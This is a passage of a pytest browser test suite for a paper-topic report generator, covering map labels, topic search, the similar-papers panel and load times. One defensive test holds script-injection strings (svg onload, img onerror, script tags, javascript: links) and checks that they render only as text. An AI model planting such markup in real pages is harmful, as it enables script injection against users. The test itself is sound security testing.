        page.wait_for("document.getElementById('status').textContent.includes('could not load')")
    finally:
        page.close()


@pytest.mark.browser
def test_document_map_opens_a_topic_or_a_document_from_the_address(browser, small_report):
    inputs, folder = small_report
    doc_id = inputs.documents.loc[5, "doc_id"]
    page, _ = open_page(browser, folder, "documents", f"#doc={doc_id}")
    try:
        assert page.evaluate("document.getElementById('figure').getAttribute('data-selected')") == doc_id
        page.call("Page.navigate", {"url": (folder / "documents.html").resolve().as_uri() + "#topic=2"})
        page.wait_for("document.getElementById('figure').data.filter(t => t.visible === true).length === 1")
        shown = page.evaluate(
            "document.getElementById('figure').data.filter(t => t.visible === true)[0].meta.topic"
        )
        assert shown == 2
    finally:
        page.close()


@pytest.mark.browser
def test_hostile_text_is_shown_as_text_and_never_runs(browser, hostile_report):
    from report_sample import HOSTILE_TEXTS

    inputs, folder = hostile_report
    documents = inputs.documents
    for name in PAGE_NAMES:
        page, _ = open_page(browser, folder, name)
        try:
            page.browser.pump(0.3)
            assert page.evaluate("window.__pwned === undefined"), f"{name}: payload ran"
            assert page.evaluate("document.title") != "pwned"
            # No element came from the text: no <img>, <svg onload> or javascript: link in the page body.
            assert (
                page.evaluate("document.querySelectorAll('main img, main [onerror], main [onload]').length")
                == 0
            )
            assert (
                page.evaluate(
                    "Array.from(document.querySelectorAll('a')).filter("
                    "a => a.href.startsWith('javascript:')).length"
                )
                == 0
            )
            assert page.errors == [], f"{name}: {page.errors}"
            assert local_only(page.requests, folder) == [], page.requests
            if name == "index":
                body = page.evaluate("document.body.textContent")
                for payload in HOSTILE_TEXTS:
                    assert payload in body
                assert "<svg onload=\"window.__pwned='listing'\">" in page.evaluate("document.body.innerText")
                page.screenshot(SCREENSHOTS / "hostile-index.png", full_page=True)
            if name == "changes":
                from report_sample import HOSTILE_VANISHED_LABEL

                assert HOSTILE_VANISHED_LABEL in page.evaluate(
                    "document.querySelector('tr[data-status=vanished]').innerText"
                )
                page.screenshot(SCREENSHOTS / "hostile-changes.png", full_page=True)
            if name == "documents":
                # The side panel shows the raw abstract as text.
                page.evaluate("location.hash = 'doc=' + " + json.dumps(documents.loc[1, "doc_id"]))
                page.wait_for("document.getElementById('doc-text').textContent.length > 0")
                assert (
                    page.evaluate("document.getElementById('doc-text').textContent")
                    == documents.loc[1, "text"]
                )
                assert page.evaluate("document.querySelectorAll('#panel img').length") == 0
                # The javascript: URL is text, not a link.
                page.evaluate("location.hash = 'doc=' + " + json.dumps(documents.loc[0, "doc_id"]))
                page.wait_for("document.getElementById('doc-title').textContent.startsWith('<script>')")
                assert page.evaluate("document.querySelectorAll('#doc-meta a').length") == 0
                # Plotly's hover label shows the markup literally.
                # The mouse over document 1's point.
                page.evaluate("window.scrollTo(0, 0)")
                x, y = page.evaluate("""(() => {
                    const gd = document.getElementById('figure'), layout = gd._fullLayout;
                    const t = gd.data.find(t => t.customdata && Array.from(t.customdata).includes(1));
                    const j = Array.from(t.customdata).indexOf(1), box = gd.getBoundingClientRect();
                    return [box.left + layout._size.l + layout.xaxis.l2p(t.x[j]),
                            box.top + layout._size.t + layout.yaxis.l2p(t.y[j])]; })()""")
                page.call("Input.dispatchMouseEvent", {"type": "mouseMoved", "x": x, "y": y})
                # The map's tooltip (the page's own, textContent only) shows the markup literally.
                hover = page.wait_for(
                    "!document.getElementById('map-tooltip').hidden && "
                    "document.getElementById('map-tooltip').textContent"
                )
                assert "<img src=x onerror=" in hover
                # report.max_hover_chars shortens the headline in the tooltip (the data files keep 150).
                tip = page.evaluate("document.querySelector('#map-tooltip .tip-title').textContent")
                assert len(tip) <= 60 and tip.endswith("\u2026") and len(documents.loc[1, "text"]) > 60, tip
                assert page.evaluate("document.querySelectorAll('#map-tooltip *').length") == page.evaluate(
                    "document.querySelectorAll('#map-tooltip span').length"
                )
                # Topic names on the map are text too (the hostile label is topic 0's).
                labels = page.evaluate(
                    "Array.from(document.querySelectorAll('.map-label')).map(e => e.textContent).join(' ')"
                )
                assert "<i>label</i>" in labels.replace("\n", " ")
                assert (
                    page.evaluate("document.querySelectorAll('#map-labels img, #topic-list img').length") == 0
                )
                # Searching for markup finds it as text.
                page.type_text("#search", "<script>")
                page.wait_for("document.getElementById('figure').getAttribute('data-matches') === '1'")
                page.screenshot(SCREENSHOTS / "hostile-documents.png")
                assert page.evaluate("window.__pwned === undefined")
                assert page.errors == [], page.errors
        finally:
            page.close()


LONG_NAME = "large vision-language models (LVLMs) & hallucinations"  # six words (the most), 53 characters


@pytest.fixture(scope="module")
def map_report(tmp_path_factory):
    """30 topics (regions derived from the map), similar papers, some points assigned by nearest topic."""
    import dataclasses

    import numpy as np
    from report_sample import sample_inputs

    from papertopics.embed.neighbours import neighbour_table
    from papertopics.report import render_report

    inputs = sample_inputs(n_documents=900, n_topics=30, listings=("alpha", "beta"), seed=5)
    documents = inputs.documents.copy()
    # the largest topic (and so its region) takes a name as long as the names stage gives (six words)
    topics = inputs.topics.copy()
    topics.loc[topics["topic"] == 0, "label"] = LONG_NAME
    documents.loc[documents["topic"] == 0, "topic_label"] = LONG_NAME
    documents["assignment"] = np.where(
        documents["topic"] < 0, "outlier", np.where(np.arange(len(documents)) % 4 == 0, "nearest", "core")
    )
    vectors = inputs.map2d[["x", "y"]].to_numpy() + 0.01 * np.random.RandomState(0).randn(len(documents), 2)
    vectors = np.hstack([vectors, np.full((len(documents), 1), 5.0)])  # cosine ~ closeness on the map
    inputs = dataclasses.replace(
        inputs,
        documents=documents,
        topics=topics,
        neighbours=neighbour_table(documents["doc_id"].tolist(), vectors, 5),
    )
    folder = tmp_path_factory.mktemp("map") / "report"
    render_report(inputs, folder)
    return inputs, folder


@pytest.mark.browser
def test_names_on_the_map_regions_then_topics_never_overlapping(browser, map_report):
    inputs, folder = map_report
    page, _ = open_page(browser, folder, "documents")
    try:
        # Zoomed out: region names only, sized by size, none overlapping.
        assert page.evaluate("document.getElementById('figure').dataset.labelLevel") == "regions"
        boxes = label_boxes(page)
        assert len(boxes) >= 4 and {box["kind"] for box in boxes} == {"region"}
        assert overlapping(boxes) == []
        page.screenshot(SCREENSHOTS / "map-zoomed-out.png")
        # Zoomed in (x4 on the largest topic): the topic names of the visible area appear.
        zoom(page, 4, topic=0)
        page.wait_for("document.getElementById('figure').dataset.labelLevel === 'topics'")
        boxes = label_boxes(page)
        named = {box["topic"] for box in boxes}
        assert {box["kind"] for box in boxes} == {"topic"} and 0 in named
        # a six-word name is drawn whole, in two lines, not cut with an ellipsis
        drawn = next(box["text"] for box in boxes if box["topic"] == 0)
        assert drawn.replace("\n", " ") == LONG_NAME and drawn.count("\n") == 1, drawn
        assert overlapping(boxes) == []
        # Every name drawn is inside the plot and belongs to a topic whose anchor is in view.
        in_view = page.evaluate("""(() => {
            const gd = document.getElementById('figure'), xa = gd._fullLayout.xaxis,
                ya = gd._fullLayout.yaxis;
            const d = JSON.parse(document.getElementById('report-data').textContent).docs;
            return d.topics.filter(t => t.x !== null
              && t.x >= Math.min(...xa.range) && t.x <= Math.max(...xa.range)
              && t.y >= Math.min(...ya.range) && t.y <= Math.max(...ya.range)).map(t => t.topic); })()""")
        assert named <= set(in_view)
        # Bigger topics get bigger names.
        sizes = dict(zip(inputs.topics["topic"], inputs.topics["size"]))
        fonts = page.evaluate(
            "Object.fromEntries(Array.from(document.querySelectorAll('.map-label.topic'))"
            ".map(e => [e.dataset.topic, parseFloat(e.style.fontSize)]))"
        )
        ranked = sorted(fonts, key=lambda t: sizes[int(t)])
        assert fonts[ranked[-1]] >= fonts[ranked[0]]
        page.screenshot(SCREENSHOTS / "map-zoomed-in.png")
        # Further in, at least as many topic names around there as before, again none overlapping.
        before = len(boxes)
        zoom(page, 2, topic=0)
        assert len(label_boxes(page)) >= 1 and overlapping(label_boxes(page)) == []
        assert before >= 1
        assert page.errors == [], page.errors
    finally:
        page.close()


@pytest.mark.browser
def test_region_names_never_overlap_whatever_the_font_draws(browser, map_report, tmp_path):
    """The names are placed by the boxes the browser draws, not by an estimate: with a wider
    letter spacing (a font or stylesheet that draws wider than a canvas measures), no two
    region names' drawn texts intersect."""
    _, folder = map_report
    copy = tmp_path / "report"
    shutil.copytree(folder, copy)
    with (copy / "report.css").open("a", encoding="utf-8") as css:
        css.write("\n.map-label.region { letter-spacing: 0.2em; }\n")
    page, _ = open_page(browser, copy, "documents")
    try:
        assert page.evaluate("document.getElementById('figure').dataset.labelLevel") == "regions"
        boxes = label_boxes(page)
        assert len(boxes) >= 3 and {box["kind"] for box in boxes} == {"region"}
        assert overlapping(boxes) == []
        assert page.errors == [], page.errors
    finally:
        page.close()


@pytest.mark.browser
def test_topic_finder_finds_and_highlights_a_topic(browser, map_report):
    inputs, folder = map_report
    page, _ = open_page(browser, folder, "documents")
    try:
        # Every topic (and the outliers) is in the list, largest first.
        listed = page.evaluate(
            "Array.from(document.querySelectorAll('#topic-list li')).map(li => Number(li.dataset.topic))"
        )
        assert sorted(listed) == sorted(inputs.topics["topic"].tolist())
        page.type_text("#topic-search", "diff")
        expected = sorted(
            int(t) for t, label in zip(inputs.topics["topic"], inputs.topics["label"]) if "diff" in label
        )
        assert expected  # "diffusion, images, generation"
        page.wait_for(f"document.getElementById('figure').dataset.topicMatches === '{len(expected)}'")
        shown = page.evaluate(
            "Array.from(document.querySelectorAll('#topic-list li')).filter(li => !li.hidden)"
            ".map(li => Number(li.dataset.topic))"
        )
        assert sorted(shown) == expected
        assert (
            page.evaluate("document.querySelector('#topic-list li:not([hidden]) mark').textContent") == "diff"
        )
        # On the map the matching topics stay bright, the others fade, and their names are drawn.
        opacity = page.evaluate("""Object.fromEntries(document.getElementById('figure').data
            .filter(t => t.meta && t.meta.role !== 'matches').map(t => [t.meta.topic, t.marker.opacity]))""")
        assert all(opacity[str(t)] == 0.07 for t in inputs.topics["topic"] if int(t) not in expected)
        assert all(opacity[str(t)] != 0.07 for t in expected)
        # ... and their names are on the map, even zoomed out, ahead of any other name.
        page.wait_for(f"!!document.querySelector('.map-label.topic[data-topic=\"{expected[0]}\"]:not(.dim)')")
        assert page.evaluate("document.getElementById('figure').dataset.labelLevel") == "topics"
        assert overlapping(label_boxes(page)) == []
        page.screenshot(SCREENSHOTS / "map-topic-search.png")
        # Clicking it zooms to it and names it.
        page.evaluate("document.querySelector('#topic-list li:not([hidden]) button').click()")
        page.wait_for(f"!!document.querySelector('.map-label.topic[data-topic=\"{expected[0]}\"]')")
        assert page.errors == [], page.errors
    finally:
        page.close()


@pytest.mark.browser
def test_similar_papers_panel_and_assigned_points(browser, map_report):
    inputs, folder = map_report
    documents = inputs.documents
    row = int(documents.index[(documents["topic"] == 3)][0])
    doc_id = documents.loc[row, "doc_id"]
    page, _ = open_page(browser, folder, "documents", f"#doc={doc_id}")
    try:
        assert page.evaluate("document.getElementById('figure').getAttribute('data-selected')") == doc_id
        items = page.evaluate("""Array.from(document.querySelectorAll('#similar-list li')).map(li =>
            [li.querySelector('button').textContent, li.querySelector('.similar-topic').textContent])""")
        expected = inputs.neighbours[inputs.neighbours["doc_id"] == doc_id].sort_values("rank")
        assert len(items) == 5 == len(expected)
        from papertopics.report.text import headline

        by_id = documents.set_index("doc_id")
        for (title, topic), neighbour in zip(items, expected["neighbour_id"]):
            assert title == headline(by_id.loc[neighbour, "title"], by_id.loc[neighbour, "text"], 150)
            assert topic.startswith(f"Topic {by_id.loc[neighbour, 'topic']}: ") or topic.startswith(
                "Outliers"
            )
            assert "similarity" in topic
        page.screenshot(SCREENSHOTS / "map-similar-papers.png")
        # Each is clickable: it opens that paper (and its own similar papers).
        page.evaluate("document.querySelector('#similar-list li button').click()")
        first = expected["neighbour_id"].iloc[0]
        page.wait_for(
            f"document.getElementById('figure').getAttribute('data-selected') === {json.dumps(first)}"
        )
        assert page.evaluate("document.getElementById('doc-text').textContent") == by_id.loc[first, "text"]
        assert page.evaluate("document.querySelectorAll('#similar-list li').length") == 5
        # Points assigned by nearest topic are drawn paler and smaller than the clustered ones.
        marker = page.evaluate("""(() => {
            const t = document.getElementById('figure').data.find(t => t.meta && t.meta.topic === 3);
            return {rows: Array.from(t.customdata), size: Array.from(t.marker.size),
                    opacity: Array.from(t.marker.opacity)}; })()""")
        nearest = set(documents.index[documents["assignment"] == "nearest"])
        sizes = {r: s for r, s in zip(marker["rows"], marker["size"])}
        pale = {r: o for r, o in zip(marker["rows"], marker["opacity"])}
        near_rows = [r for r in marker["rows"] if r in nearest]
        core_rows = [r for r in marker["rows"] if r not in nearest]
        assert near_rows and core_rows
        assert max(sizes[r] for r in near_rows) < min(sizes[r] for r in core_rows)
        assert max(pale[r] for r in near_rows) < min(pale[r] for r in core_rows)
        assert page.errors == [], page.errors
    finally:
        page.close()


@pytest.mark.browser
def test_seed_listings_title_the_report_by_their_header(browser, tmp_path_factory):
    """The seeds start with the header line "NeurIPS 2026 论文列表".

    It titles the report (not the file names).
    """
    import numpy as np

    from papertopics.ingest.corpus import build_corpus
    from papertopics.ingest.listings import ListingSpec, listing_name, read_listing
    from papertopics.report import ReportInputs, render_report

    frames = [
        read_listing(ListingSpec(listing_name(path), path)) for path in sorted((REPO / "seeds").glob("*.txt"))
    ]
    corpus, stats = build_corpus(frames)
    headers = {name: entry["title"] for name, entry in stats["listings"].items()}
    assert set(headers.values()) == {"NeurIPS 2026 论文列表"}
    documents = corpus[["doc_id", "listings", "title", "text"]].assign(topic=np.arange(len(corpus)) % 3)
    rng = np.random.RandomState(0)
    inputs = ReportInputs(
        documents=documents,
        topics=documents[["topic"]].drop_duplicates().assign(label="seeds"),
        map2d=documents[["doc_id"]].assign(x=rng.randn(len(corpus)), y=rng.randn(len(corpus))),
        listings=list(stats["listings"]),
        listing_titles=headers,
    )
    folder = tmp_path_factory.mktemp("seeds") / "report"
    render_report(inputs, folder)
    for name in ("index", "documents", "listings"):
        page, _ = open_page(browser, folder, name)
        try:
            assert page.evaluate("document.title").endswith("· NeurIPS 2026 论文列表")
            assert (
                page.evaluate("document.querySelector('.topbar .brand').textContent")
                == "NeurIPS 2026 论文列表"
            )
            if name == "documents":
                options = page.evaluate(
                    "Array.from(document.querySelectorAll('#listing-filter option')).map(o => o.textContent)"
                )
                assert all(option.startswith("NeurIPS 2026 论文列表 (") for option in options[1:])
            assert page.errors == [], page.errors
        finally:
            page.close()


@pytest.mark.browser
@pytest.mark.slow
def test_neurips_sized_report_is_light_and_draws_every_point(browser, large_report):
    inputs, folder = large_report
    total = sum(path.stat().st_size for path in folder.iterdir())
    assert total <= 30e6, f"{total / 1e6:.1f} MB"
    timings = {}
    for name in PAGE_NAMES:
        page, seconds = open_page(browser, folder, name)
        try:
            timings[name] = seconds
            assert page.errors == [], page.errors
            assert local_only(page.requests, folder) == []
            if name == "documents":
                assert count_points(page) == len(inputs.documents)
                # Drawn with WebGL: no "WebGL is not supported" notice, no SVG fallback.
                assert page.evaluate("document.getElementById('figure').data[0].type") == "scattergl"
                assert page.evaluate("!!document.querySelector('.no-webgl')") is False
                assert page.evaluate("!!document.getElementById('figure')._fullLayout._glcanvas") is True
                started = time.monotonic()
                page.type_text("#search", "privacy")
                page.wait_for("Number(document.getElementById('figure').getAttribute('data-matches')) > 0")
                timings["search (typing to highlighted)"] = time.monotonic() - started
                page.screenshot(SCREENSHOTS / "large-documents-search.png")
            if name == "index":
                assert page.evaluate("document.querySelectorAll('article.card').length") == 41
        finally:
            page.close()
    print("load seconds:", json.dumps({k: round(v, 2) for k, v in timings.items()}))
    TIMINGS["3,584 documents"] = timings


@pytest.mark.browser
def test_no_page_hangs():
    """Runs last: the load times the tests above measured, each under HANG_S."""
    if not TIMINGS:
        pytest.skip("no page was timed (browser tests skipped or deselected)")
    check_no_hang(
        {f"{report} {page}": seconds for report, pages in TIMINGS.items() for page, seconds in pages.items()}
    )


# ---------------------------------------------------------------- screenshots for the README


def screenshot_report(
    folder: Path, target: Path, page_name: str = "documents", width: int = 1400, height: int = 860
) -> Path:
    """A PNG of one page of a report folder (used for docs/img/report-*.png).

    `page_name` may carry a fragment: "documents#doc=<doc_id>" opens that abstract in the panel.
    """
    name, _, fragment = page_name.partition("#")
    chromium = Chromium(width=width, height=height)
    try:
        page = chromium.page()
        seconds = page.open(
            (folder / f"{name}.html").resolve().as_uri() + (f"#{fragment}" if fragment else "")
        )
        page.browser.pump(0.5)
        page.screenshot(target)
        print(f"{page_name}: ready in {seconds:.2f} s; errors: {page.errors}")
        return target
    finally:
        chromium.close()


if __name__ == "__main__":
    screenshot_report(Path(sys.argv[1]), Path(sys.argv[2]), *(sys.argv[3:4] or []))
